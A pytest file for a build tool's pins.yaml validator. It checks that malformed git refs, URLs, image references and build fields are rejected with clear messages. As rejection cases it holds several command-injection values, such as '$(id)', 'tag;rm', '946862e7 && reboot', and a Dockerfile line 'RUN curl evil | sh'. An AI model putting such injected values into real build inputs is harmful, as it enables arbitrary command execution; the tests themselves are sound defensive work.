"""The pins schema: one test per bad-input rule, and the message a user sees (file, line, key, expected, found)."""

from __future__ import annotations

import json
import re
from pathlib import Path

import pytest

from buildkit.errors import InputError
from buildkit.models import grammar
from buildkit.models.pins import load_pins
from tests.support.paths import REPO_ROOT

REFERENCE = (REPO_ROOT / "pins.yaml").read_text()


def write(tmp_path: Path, text: str) -> Path:
    path = tmp_path / "pins.yaml"
    path.write_text(text)
    return path


def load_error(tmp_path: Path, text: str) -> str:
    with pytest.raises(InputError) as info:
        load_pins(write(tmp_path, text))
    return info.value.message


def test_reference_pins_are_valid():
    pins = load_pins(REPO_ROOT / "pins.yaml")
    assert pins.nemo_rl.ref == "946862e7"
    assert pins.vllm.ref == "4a5299c93ff97c26def537b92562df5ada530fea" and pins.vllm.pr == 24322
    assert pins.base_image == "nvcr.io/nvidia/cuda-dl-base:25.05-cuda12.9-devel-ubuntu24.04"
    assert (pins.build.target, pins.build.platform, pins.build.cuda_arch_list) == ("release", "linux/amd64", "9.0")
    assert pins.build.tag == "nemo-rl:v0.5.0-spec-decode"
    assert [e.name for e in pins.build.drop_extras] == ["sglang"] and "DeepGEMM" in pins.build.drop_extras[0].reason
    assert (pins.wheel.arch, pins.wheel.variant) == ("x86_64", "default")
    assert len(pins.known_issues) == 3


def test_unknown_key_is_rejected_with_line_and_path(tmp_path):
    text = REFERENCE.replace("  platform: linux/amd64\n", "  platform: linux/amd64\n  plattform: oops\n")
    msg = load_error(tmp_path, text)
    line = text.splitlines().index("  plattform: oops") + 1
    assert f"pins.yaml:{line}: build.plattform: unknown key" in msg


def test_missing_key_names_it(tmp_path):
    msg = load_error(tmp_path, REFERENCE.replace("  tag: nemo-rl:v0.5.0-spec-decode\n", ""))
    assert "build.tag: required key is missing" in msg


def test_duplicate_key_is_rejected(tmp_path):
    msg = load_error(tmp_path, REFERENCE + "\nbase_image: ubuntu:24.04\n")
    assert "duplicate key 'base_image'" in msg


def test_broken_yaml_names_the_line(tmp_path):
    msg = load_error(tmp_path, "nemo_rl:\n  repo: [unclosed\n")
    assert "pins.yaml:" in msg and "not valid YAML" in msg


def test_float_where_string_expected_says_quote_it(tmp_path):
    msg = load_error(tmp_path, REFERENCE.replace('cuda_arch_list: "9.0"', "cuda_arch_list: 9.0"))
    assert "build.cuda_arch_list: expected a string (quote it in YAML), found 9.0" in msg


def test_every_problem_is_listed_at_once(tmp_path):
    text = REFERENCE.replace('ref: "946862e7"', "ref: -evil").replace("target: release", "target: Release!")
    msg = load_error(tmp_path, text)
    assert "2 problem(s)" in msg and "nemo_rl.ref" in msg and "build.target" in msg


@pytest.mark.parametrize(
    "ref", ["946862e7", "4a5299c93ff97c26def537b92562df5ada530fea", "main", "v0.5.0", "release/0.5"]
)
def test_good_refs(ref):
    assert grammar.git_ref(ref) == ref


@pytest.mark.parametrize(
    "ref",
    ["-upload-pack=evil", "main branch", "a..b", "feature/", "x.lock", "ref@{1}", "tag;rm", "$(id)", "a//b", ""],
)
def test_bad_refs(ref):
    with pytest.raises(ValueError, match="expected a commit SHA"):
        grammar.git_ref(ref)


def test_full_sha_rule():
    assert grammar.full_sha("a" * 40)
    for bad in ("a" * 39, "A" * 40, "g" * 40):
        with pytest.raises(ValueError, match="40 lowercase hex"):
            grammar.full_sha(bad)


@pytest.mark.parametrize("pr", ["0", "-3", '"24322"', "true", "99999999999"])
def test_bad_pr_numbers(tmp_path, pr):
    msg = load_error(tmp_path, REFERENCE.replace("pr: 24322", f"pr: {pr}"))
    assert "vllm.pr" in msg


def test_vllm_needs_ref_or_pr(tmp_path):
    text = REFERENCE.replace('  ref: "4a5299c93ff97c26def537b92562df5ada530fea"\n', "").replace("  pr: 24322\n", "")
    assert "give vllm.ref, vllm.pr, or both" in load_error(tmp_path, text)


@pytest.mark.parametrize(
    "url",
    [
        "https://wheels.vllm.ai",
        "https://ghe.example.com/api/v3",
        "http://127.0.0.1:8080",
        "http://localhost:1/x",
        "http://[::1]:9",
    ],
)
def test_good_https_urls(url):
    assert grammar.https_url(url) == url


@pytest.mark.parametrize(
    ("url", "why"),
    [
        ("http://wheels.vllm.ai", "only for loopback"),
        ("http://10.0.0.1:8080", "only for loopback"),
        ("ftp://example.com/x", "expected an https:// URL"),
        ("https://user:secret@example.com", "credentials do not belong"),
        ("https://example.com/a b", "without spaces"),
        ('https://example.com/"x', "without spaces"),
        ("https://example.com/$(id)", "without spaces"),
        ("https://example.com/?q=1", "without spaces, quotes, .\\?query"),
        ("https:///path", "host name"),
    ],
)
def test_bad_https_urls(url, why):
    with pytest.raises(ValueError, match=why.replace("(", r"\(")):
        grammar.https_url(url)


def test_git_urls():
    assert grammar.git_url("file:///srv/mirror/RL.git")
    assert grammar.git_url("git://127.0.0.1:9418/RL.git")
    for bad in ("git://github.com/x/y", "file:relative/path", "ssh://git@github.com/x/y", "git@github.com:x/y"):
        with pytest.raises(ValueError):
            grammar.git_url(bad)


@pytest.mark.parametrize(
    "ref",
    [
        "nvcr.io/nvidia/cuda-dl-base:25.05-cuda12.9-devel-ubuntu24.04",
        "ubuntu:24.04",
        "127.0.0.1:5000/stub/base:1",
        "localhost/x:y",
        "ghcr.io/a/b@sha256:" + "0" * 64,
        "ghcr.io/a/b:t@sha256:" + "0" * 64,
    ],
)
def test_good_image_refs(ref):
    assert grammar.image_ref(ref) == ref


@pytest.mark.parametrize(
    "ref",
    [
        "nvcr.io/NVIDIA/cuda:1",
        "nvcr.io/nvidia/cuda",
        "ubuntu:24.04;rm",
        "ubuntu:-x",
        "a//b:1",
        "ubuntu@sha256:abc",
        " x:1",
    ],
)
def test_bad_image_refs(ref):
    with pytest.raises(ValueError):
        grammar.image_ref(ref)


def test_image_tags():
    assert grammar.image_tag("nemo-rl:v0.5.0-spec-decode")
    for bad in ("nemo-rl", "Nemo:x", "nemo-rl:x@sha256:" + "0" * 64, "nemo-rl:$TAG"):
        with pytest.raises(ValueError, match="image name with a tag"):
            grammar.image_tag(bad)


@pytest.mark.parametrize(
    ("old", "new", "key"),
    [
        ('cuda_arch_list: "9.0"', 'cuda_arch_list: "9.0; curl x"', "build.cuda_arch_list"),
        ("target: release", "target: release --push", "build.target"),
        ("platform: linux/amd64", "platform: windows/amd64", "build.platform"),
        ("  - name: sglang", "  - name: Sg Lang", "build.drop_extras.0.name"),
        ("variant: default", "variant: ../x", "wheel.variant"),
        ("arch: x86_64", "arch: aarch64", "wheel.arch"),
    ],
)
def test_bad_build_values(tmp_path, old, new, key):
    msg = load_error(tmp_path, REFERENCE.replace(old, new))
    assert key in msg


def test_reason_must_be_one_line(tmp_path):
    text = REFERENCE.replace("only the sglang backend needs it", 'only\\nRUN curl evil | sh"').replace(
        "reason: sgl-kernel", 'reason: "sgl-kernel'
    )
    assert "build.drop_extras.0.reason: expected one line of text" in load_error(tmp_path, text)


def test_cli_bad_pins_exit_2_without_traceback(cli, tmp_path):
    write(tmp_path, REFERENCE.replace('ref: "946862e7"', "ref: '946862e7 && reboot'"))
    result = cli("resolve", "--offline")
    assert result.code == 2
    assert "nemo_rl.ref: expected a commit SHA" in result.stderr
    assert "Traceback" not in result.output


def test_cli_missing_pins_file(cli):
    result = cli("resolve", "--pins", "nope.yaml")
    assert result.code == 2 and "nope.yaml: no such file" in result.stderr


def test_schema_command_prints_json_schema(cli):
    result = cli("schema")
    assert result.code == 0
    schema = json.loads(result.stdout)
    assert schema["title"] == "buildkit pins.yaml"
    assert {"nemo_rl", "vllm", "wheel", "base_image", "build", "known_issues", "endpoints"} <= set(schema["properties"])
    assert schema["additionalProperties"] is False


def test_schema_carries_the_grammars_for_editors(cli):
    schema = json.loads(cli("schema").stdout)
    ref = schema["$defs"]["NemoRl"]["properties"]["ref"]
    assert re.match(ref["pattern"], "946862e7") and not re.match(ref["pattern"], "-x y")
    image = schema["properties"]["base_image"]
    assert re.match(image["pattern"], "nvcr.io/nvidia/cuda-dl-base:25.05-cuda12.9-devel-ubuntu24.04")
    assert not re.match(image["pattern"], "nvcr.io/NVIDIA/x:1")


def test_tags_are_ascii():
    with pytest.raises(ValueError):
        grammar.image_ref("ubuntu:tést")


def test_schema_patterns_are_ecma262_compatible(cli):
    text = cli("schema").stdout
    assert "(?P<" not in text
